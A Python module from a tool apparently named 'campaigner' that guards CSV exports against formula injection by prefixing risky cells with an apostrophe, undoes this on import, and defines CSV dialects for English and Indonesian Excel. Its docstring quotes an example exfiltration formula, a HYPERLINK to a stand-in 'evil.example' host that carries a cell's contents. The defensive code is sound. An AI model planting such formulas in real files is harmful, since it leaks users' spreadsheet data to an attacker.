"""Cells that a spreadsheet would run as formulas, made inert when campaigner writes a CSV, and
restored when it reads its own file back; and the dialects (separator, decimal mark, byte-order
mark) campaigner writes its CSV files in.

Why: a post's text comes from staff or from strangers (replies, error texts); a cell starting
with ``=``, ``+``, ``-`` or ``@`` — ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` — is run
by Excel, LibreOffice and Google Sheets when the file is opened (OWASP "CSV injection"), and
tab or carriage return starts one in some of them. The rule, for every CSV campaigner writes:

- such a cell gets a leading ``'``, the spreadsheets' own "this is text" mark. That includes
  everyday texts: a mention (``@serikat …``) or a list (``- upah …``): Excel shows them as
  ``#NAME?`` or runs them otherwise. The ``'`` is visible in the sheet; keep it when editing.
- a cell that itself starts with ``'`` followed by one of those characters or another ``'`` gets
  one more ``'``, so reading the file back always gives the text that was written;
- ``restore`` (the calendar import) takes exactly one ``'`` off a cell that starts with ``'`` and
  then one of those characters or ``'``. Any other cell, including one starting with a single
  ``'`` and a letter (``'Upah layak' kata mereka``), is read as it is.
"""
from __future__ import annotations

from dataclasses import dataclass

#: first characters a spreadsheet treats as the start of a formula
FORMULA_START = frozenset("=+-@\t\r")
MARK = "'"
_AFTER_MARK = FORMULA_START | {MARK}


def neutralise(cell: str) -> str:
    """``cell`` as it is safe to write in a CSV a spreadsheet will open; ``restore`` undoes it."""
    first = cell[:1]
    if first in FORMULA_START or (first == MARK and cell[1:2] in _AFTER_MARK):
        return MARK + cell
    return cell


def restore(cell: str) -> str:
    """The text ``neutralise`` was given, from the cell it wrote."""
    if cell[:1] == MARK and cell[1:2] in _AFTER_MARK:
        return cell[1:]
    return cell


# --- dialects: how a CSV file is laid out for the spreadsheet that opens it ---------------------

@dataclass(frozen=True)
class Dialect:
    """How campaigner lays out a CSV file it writes.

    ``standard``: ``,`` between cells and ``.`` in decimals, as English-locale spreadsheets and
    scripts read them. ``excel-id``: what Excel set to Indonesian opens directly — ``;`` between
    cells (Indonesian Excel's list separator, since ``,`` is its decimal mark), ``,`` in decimals,
    a UTF-8 byte-order mark (without it Excel reads UTF-8 as the local code page and breaks
    accents and emoji) and CRLF line ends. Reading (``content.calendar_csv``) takes both."""

    name: str
    delimiter: str
    decimal: str
    bom: bool
    lineterminator: str

    def number(self, value: float, digits: int) -> str:
        """``value`` with ``digits`` decimals and this dialect's decimal mark (no grouping)."""
        text = f"{value:.{digits}f}"
        return text.replace(".", self.decimal) if self.decimal != "." else text


DIALECTS: dict[str, Dialect] = {
    "standard": Dialect("standard", ",", ".", False, "\r\n"),
    "excel-id": Dialect("excel-id", ";", ",", True, "\r\n"),
}


def dialect_for(lang: str, name: str | None = None) -> Dialect:
    """The dialect ``name`` names, or by default the one of language ``lang`` (``id``: excel-id)."""
    if name is None:
        name = "excel-id" if lang == "id" else "standard"
    return DIALECTS[name]
